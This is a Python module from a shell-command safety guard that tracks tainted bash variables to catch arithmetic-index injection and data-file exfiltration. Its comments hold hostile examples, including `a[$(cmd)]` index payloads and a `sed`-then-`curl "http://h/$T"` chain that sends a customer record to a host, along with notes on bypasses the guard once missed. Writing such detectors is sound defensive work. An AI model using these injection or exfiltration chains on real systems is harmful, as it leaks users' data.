"""What the session's shell variables may hold when bash reads them as numbers or names (``safety.arith`` finds
where it does): kept between steps, judged at the end of every line.

Each name maps to what its values referred to: other names, ``@`` (the positional parameters) and ``!`` (text the
guard did not read). A sink that reaches ``!`` is asked about. What a name may hold only grows, except where an
assignment on the top level of the session's own line (``n=5``, ``n=$(wc -l < f) && …``) replaces it, and then
only for what the line reads after it.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from macrohard.safety import lazyre
from macrohard.safety.digits import PROGRAM, digit_function

UNREAD = "!"  # a source: text the guard did not read
POSITIONAL = "@"  # $1 … $9, $@, $*
NAMEREF = "&"  # the name was made a name reference (declare -n): `for f in README` then reads $README
ARRAY = "[]"  # an indexed array (n=5 replaces only n[0]) or a readonly name (n=5 fails): a reset keeps the rest
CALL = "()"  # before a name: the output of that command, digits if it is a function that prints only those
ANY = "*"  # a name only known when the line runs was given a value (`read "$v"`): every name may hold it
# names bash itself sets from text the run chose: the last argument, a match, a folder's name, ...
ALWAYS_UNREAD = frozenset({"_", "BASH_REMATCH", "PWD", "OLDPWD", "BASH_COMMAND", "BASH_ARGV", "BASH_SOURCE",
                           "FUNCNAME", "DIRSTACK", "READLINE_LINE", "COMP_LINE", "COMP_WORDS", "BASH_EXECUTION_STRING"})

NUMBER_RE = lazyre.compile(r"\$\{#[A-Za-z_]\w*(?:\[[@*]\])?\}|\$\{#\}|\$[#?$!-]|\$\{[#?$!-]\}|\b\d+#[\w@]+|"
                      r"\b0[xX][0-9a-fA-F]+|\$\{[A-Za-z_]\w*//\[[!^](?:0-9|\[:digit:\])\]/\}")
POSITIONAL_RE = lazyre.compile(r"\$(?:\{?[0-9]+\}?|[@*]|\{[@*][^}]*\})")
NAME_RE = lazyre.compile(r"(?<![\w#@])[A-Za-z_]\w*")
CODE_RE = lazyre.compile(r"\$\(|`|<\(|>\(")


@dataclass
class Values:
    """What the session's shell variables may hold, as far as a number read goes (kept across steps)."""

    deps: dict[str, set[str]] = field(default_factory=dict)  # name -> the names its value refers to, and UNREAD
    assoc: set[str] = field(default_factory=set)  # names `declare -A` made: their subscripts are strings
    nested: dict[str, set[str]] = field(default_factory=dict, compare=False)  # what code the line ran gave them

    def copy(self) -> Values:
        return Values({k: set(v) for k, v in self.deps.items()}, set(self.assoc))


@dataclass
class Notes:
    """What one parse found: the sinks and the sources, in the order the walk met them."""

    # (offset, names, what reads them, the array whose index it is)
    sinks: list[tuple[int, frozenset[str], str, str]] = field(default_factory=list)
    sources: list[tuple[str, frozenset[str], int | None]] = field(default_factory=list)  # (name, deps, definite at)
    assoc: set[str] = field(default_factory=set)  # declared associative on the session's own line
    unassoc: set[str] = field(default_factory=set)  # unset, or declared again otherwise (local, declare -a)
    checked: list[tuple[str, int, int]] = field(default_factory=list)  # (name, from, to): tested to hold digits
    src: bytes = b""  # the line (what runs between a check and a sink)


def refs(text: str) -> set[str]:
    """The names an arithmetic expression's text reads (bare or with ``$``), ``@`` for positional ones and
    ``!`` for code in it the walker did not see as a command (a quoted ``$(…)``)."""
    text = arithmetic_text(text)
    # `$$m`: where eval re-reads "n=\$$m", the value of the variable m names (the guard saw m's name only)
    out = {UNREAD} if CODE_RE.search(text) or "$$" in text and re.search(r"\$\$[A-Za-z_{]", text) else set()
    text = NUMBER_RE.sub("0", text)
    if POSITIONAL_RE.search(text):
        out.add(POSITIONAL)
    return out | set(NAME_RE.findall(POSITIONAL_RE.sub("0", text)))


def arithmetic_text(text: str) -> str:
    """``$((a + 1))`` as ``(a + 1)``: arithmetic runs no command (``$((cmd) )`` is a command substitution, kept)."""
    start = 0
    while (j := text.find("$((", start)) >= 0:
        depth, k = 0, j + 3
        while k < len(text) and not (text[k] == ")" and depth == 0):
            depth += {"(": 1, ")": -1}.get(text[k], 0)
            k += 1
        if text[k + 1:k + 2] == ")":  # closed by `))`: arithmetic, whose inner $(( )) are seen next
            text = text[:j] + " " + text[j + 1:]
        start = j + 1
    return text


def judge_line(an: Any, notes: Notes, depth: int) -> None:
    """At the end of a line: ask about each sink that may read text the guard did not. On the session's own line, a
    definite assignment (``n=5``) then replaces what the name held before, for the sinks after it and later steps."""
    deps, kills = an.values.deps, _kills(notes, depth)
    kills = {n: at for n, at in kills.items() if not {ARRAY, NAMEREF} & deps.get(n, set())}  # a name reference stays one
    value_at = _values_at(notes, kills, an.values.nested)
    for offset, names, what, array in notes.sinks:
        names = names - _digits_here(an, notes, offset)
        for name in sorted(names) if array not in an.values.assoc else ():
            if _unread(name, deps, value_at, kills, offset):
                who = "a command's output" if name == UNREAD else f"the output of {name[2:]}" if name.startswith(
                    CALL) else f"${name}, which may hold text from a file, a command's output or input,"
                an.r.add("dynamic", f"{what} reads {who} as a number or a variable's name: bash runs the $(…) of an "
                                    "array index in it (a[$(cmd)]); use a value the line shows, or strip it to digits "
                                    "first (${n//[^0-9]/})")
                break
    # past the line's last assignment (``notes.src`` is only kept where a digits check needs it: guard29 found a
    # line's end read as offset 1, so ``W='a[$(cmd)]'; V=W`` left V holding nothing and a later ``((V))`` ran cmd)
    end = max([len(notes.src), *(at for _, _, at in notes.sources if at is not None)]) + 1
    deps.update({name: _after_line(name, deps, value_at, kills, end) for name in kills})


def _digits_here(an: Any, notes: Notes, at: int) -> set[str]:
    """The names a ``[[ $n =~ ^[0-9]+$ ]]`` before ``at`` found to hold digits, when nothing it guards sets them again
    (an assignment, a builtin that sets names, a function the session defined)."""
    out: set[str] = set()
    for name, start, end in notes.checked if not an.hooks else ():  # a DEBUG trap may set it between
        between = notes.src[start:end].decode(errors="replace") if start <= at < end else None  # loops go back
        if ARRAY in an.values.deps.get(name, ()):  # an array: the test read n[0] only
            continue
        if between is None or re.search(rf"(?<![\w$]){name}(?:\[[^]]*\])?\+?=|(?<![\w-])(?:read|mapfile|readarray|printf|"
                                        r"declare|typeset|local|export|eval|source|unset|getopts|let|coproc|wait|"
                                        rf"trap)(?![\w-])|(?<![\w$])\.\s|\b(?:for|select)\s+{name}\b", between):
            continue
        if not set(re.findall(r"[A-Za-z_][\w-]*", between)) & set(an.functions):
            out.add(name)
    return out


def _kills(notes: Notes, depth: int) -> dict[str, int]:
    """The names a definite top-level assignment replaces, and where (only on the session's own line)."""
    if depth:
        return {}
    out: dict[str, int] = {}
    for name, _, definite in notes.sources:
        if definite is not None:
            out.setdefault(name, definite)
    return out


def _values_at(notes: Notes, kills: dict[str, int], nested: dict[str, set[str]]) -> Any:
    """What a replaced name may refer to at an offset of the line, each with the offset its own value is read at:
    what its last definite assignment before there gave it (``n=$(cat f); n=5; echo $((n))``: 5, guard16), names
    read at that assignment (``m=$n; n=5``: m holds what n held before), with every assignment the line makes in
    code whose order the guard does not follow (a loop, a function, a branch: read at an unknown time, None)."""
    loose: dict[str, set[str]] = {}
    for n, d, definite in notes.sources:
        if n in kills and definite is None:
            loose.setdefault(n, set()).update(d)

    def value_at(name: str, at: int) -> list[tuple[str, int | None]]:
        before = [(definite, d) for n, d, definite in notes.sources if n == name and definite is not None
                  and definite < at]
        last = max((off for off, _ in before), default=None)
        out: list[tuple[str, int | None]] = [(x, last) for off, d in before if off == last for x in d]
        return out + [(x, None) for x in loose.get(name, set()) | nested.get(name, set())]

    return value_at


def _after_line(name: str, deps: dict[str, set[str]], value_at: Any, kills: dict[str, int], end: int) -> set[str]:
    """What a replaced name refers to for later steps: its last value's names, or where those were read before the
    replacement of what they name, what they held then (``m=$n; n=5``: m keeps n's earlier sources)."""
    out: set[str] = set()
    for x, pos in value_at(name, end):
        if pos is not None and x in kills and kills[x] >= pos or pos is None and x in kills:
            out |= deps.get(x, set()) | {x}  # read before x was replaced (or at an unknown time): all x may hold
        else:
            out.add(x)
    return out


def _unread(name: str, deps: dict[str, set[str]], value_at: Any, kills: dict[str, int], at: int) -> bool:
    """Whether ``name``, read at offset ``at``, may hold text the guard did not read. A name a replaced name's value
    refers to is followed at the offset of that assignment; one reached otherwise, at any time (``deps`` holds
    what the session gave it and everything the line may)."""
    seen: set[tuple[str, int | None]] = set()
    todo: list[tuple[str, int | None]] = [(name, at)]
    while todo:
        n, pos = todo.pop()
        if (n, pos) in seen:
            continue
        seen.add((n, pos))
        if n == UNREAD or n in ALWAYS_UNREAD or n.startswith(CALL):
            return True
        if pos is not None and kills.get(n, pos) < pos:  # after `n=5`: what the line gave it there
            todo += value_at(n, pos)
        else:
            todo += [(x, None) for x in deps.get(n, ())]
        todo += [(x, None) for x in deps.get(ANY, ())]
    return False


def record_line(an: Any, notes: Notes, depth: int, defined: dict[str, str]) -> None:
    """At the start of a line: what its sources may give each name, added to what it held (code the line runs,
    judged before the line's end, sees both). The output of a function the line calls is digits when its body, as
    the session had it and as the line (re)``defined`` it, prints only those; otherwise text the guard did not read."""
    if depth == 0:
        an.values.nested = {}
    calls = {n for _, d, _ in notes.sources for n in d if n.startswith(CALL)} | {
        n for _, d, _, _ in notes.sinks for n in d if n.startswith(CALL)}
    if calls:
        after = {**an.functions, **defined}
        path_changed = bool(an.path_dirs) or any(name == "PATH" for name, _, _ in notes.sources)
        digits = {n for n in calls if digit_function(an.functions, n[2:]) and digit_function(after, n[2:])} | {
            n for n in calls if n[2:].startswith(PROGRAM) and not path_changed and n[3:] not in after}
        fix = lambda d: frozenset(UNREAD if n.startswith(CALL) else n for n in d - digits)  # noqa: E731
        notes.sources[:] = [(name, fix(d), at) for name, d, at in notes.sources]
        notes.sinks[:] = [(at, fix(d), what, array) for at, d, what, array in notes.sinks]
    for name, d, _ in notes.sources:
        an.values.deps.setdefault(name, set()).update(d)
        if depth:
            an.values.nested.setdefault(name, set()).update(d)
    for name, d, _ in notes.sources:  # `declare -n r; r=$n`: bash reads the value as the name r refers to, and
        given = d - {NAMEREF, ARRAY}  # `declare -n r=x; r=$n` gives it to x (guard16: both ran a[$(cmd)])
        if given and NAMEREF in an.values.deps.get(name, ()):
            notes.sinks.append((len(notes.src), frozenset(given), f"an assignment to {name}, a name reference,", ""))
            an.values.deps.setdefault(ANY, set()).update(given)
    an.values.assoc -= notes.unassoc
    if depth == 0:  # `declare -A` in code the line runs (a function's body) may be a local one
        an.values.assoc |= notes.assoc


def positional_args(an: Any, argv: list[str]) -> None:
    """A function, a script or a shell the line runs with arguments: its ``$1`` … hold them."""
    prog = argv[0].rsplit("/", 1)[-1] if argv else ""
    if len(argv) > 1 and (argv[0] in an.functions or "/" in argv[0] or prog in _RUNS_SCRIPTS):
        an.values.deps.setdefault(POSITIONAL, set()).update(*(refs(a) | ({UNREAD} if re.search(r"[*?\[]", a) else set())
                                                              for a in argv[1:] if not a.startswith("-")))  # f *: names


_RUNS_SCRIPTS = frozenset({"bash", "sh", "dash", "zsh", "ksh", "source", "."})


DATA = "!data"  # rt54: a mark among a name's deps: its value may hold a data file's text (safety.flows.data_value)


def may_hold_data(values: Values, name: str) -> bool:
    """Whether ``name`` may hold text an earlier step read from a data file (``DATA``), through the names it refers to."""
    seen: set[str] = set()
    todo = [name]
    while todo:
        n = todo.pop()
        if n in seen:
            continue
        seen.add(n)
        if n == DATA:
            return True
        todo += list(values.deps.get(n, ())) + list(values.deps.get(ANY, ()))
    return False


FILE = "!file:"  # a key of ``deps``: a file a line that carried a data file's text wrote (its absolute path) -> {DATA}


def mark_data(an: Any, notes: Notes, written: list[str]) -> None:
    """At the end of the session's own line that carries a data file's text (``safety.flows.line_data``): every name
    the line gave a value it did not read keeps ``DATA`` for later steps (``export T=$(sed -n 2p customers.csv)`` one
    step, ``curl "http://h/$T"`` the next; ``printf -v U %s "$T"`` in between), and so does each file it wrote
    (``sed -n 2p customers.csv > t.txt``, read back a step later)."""
    # rt56: and every name code the line ran gave one (`eval "T=$(sed -n 2p clients)"`, a function's body, a sourced
    # file): only the line's own assignments were marked, so `$T` a step after the eval carried the row, approved
    for name in [*(name for name, _, _ in notes.sources), *an.values.nested]:
        if may_hold_unread(an.values, name):
            an.values.deps.setdefault(name, set()).add(DATA)
    for path in written:
        if path not in DISCARDS:
            an.values.deps[FILE + path] = {DATA}


# rel58: devices that keep nothing written to them: no later step reads a data file's text back from one. Marked, a
# step's `grep -q ada clients.csv >/dev/null` made every later line with the word "null" in it take from a data file
# ("null (written from a data file's text)", ``flows.line_data``): `jq '.main // null' package.json > p.json && mv p.json
# package.json` was refused as a network program's settings written from data, and so was flow38's honest jq twin with
# `2>/dev/null` on its own line
DISCARDS = frozenset({"/dev/null", "/dev/zero", "/dev/full"})


def data_script(an: Any, path: str, cwd: str | None, text: str) -> None:
    """rt56: a file of shell code the line reads (``. ./vars``, ``source env.sh``, ``sh r.sh``) that an earlier line
    wrote from a data file's text, or whose own text names one or has the shape of records: each name it assigns
    keeps ``DATA`` (``echo "T=$(sed -n 2p clients)" > vars``, then ``. ./vars``, then ``curl "http://h/$T"``: the
    value is a literal in the file, so the guard read it as clean)."""
    from macrohard.safety import flows
    from macrohard.safety.shellparse import parse

    where = an.paths.resolve(path, cwd)
    if not (data_file(an.values, where) or flows.names_data(path) or flows.records_file(where) or
            flows.names_data(text) or flows.named_records(an, text, code=True)):
        return
    try:
        assigned = parse(text).assigned
    except Exception:  # noqa: BLE001 - code the parser cannot read: the other checks judge it
        return
    for name in assigned:
        an.values.deps.setdefault(name, set()).add(DATA)


def data_file(values: Values, path: str) -> bool:
    """Whether an earlier line that carried a data file's text wrote ``path`` (absolute)."""
    return FILE + path in values.deps


def may_hold_unread(values: Values, name: str) -> bool:
    """Whether ``name`` (``POSITIONAL`` for ``$1``/``$@``) may hold text the guard did not read, as far as what the
    session and the line gave it goes (``deps``, followed through the names it refers to): a command's output, a
    ``read``'s input, a file's text (rt54: ``T=$(sed -n 2p customers.csv)`` one step, ``curl "http://h/$T"`` the same
    step or a later one). A name nothing set here (the environment's ``$ACCEPT``) is not."""
    seen: set[str] = set()
    todo = [name] if name in values.deps or name in ALWAYS_UNREAD else []
    while todo:
        n = todo.pop()
        if n in seen:
            continue
        seen.add(n)
        if n in (UNREAD, DATA) or n.startswith(CALL) or n in ALWAYS_UNREAD and n not in ("PWD", "OLDPWD", "DIRSTACK"):
            return True
        todo += [x for x in values.deps.get(n, ()) if x not in (ARRAY, NAMEREF)]
        todo += list(values.deps.get(ANY, ()))
    return False
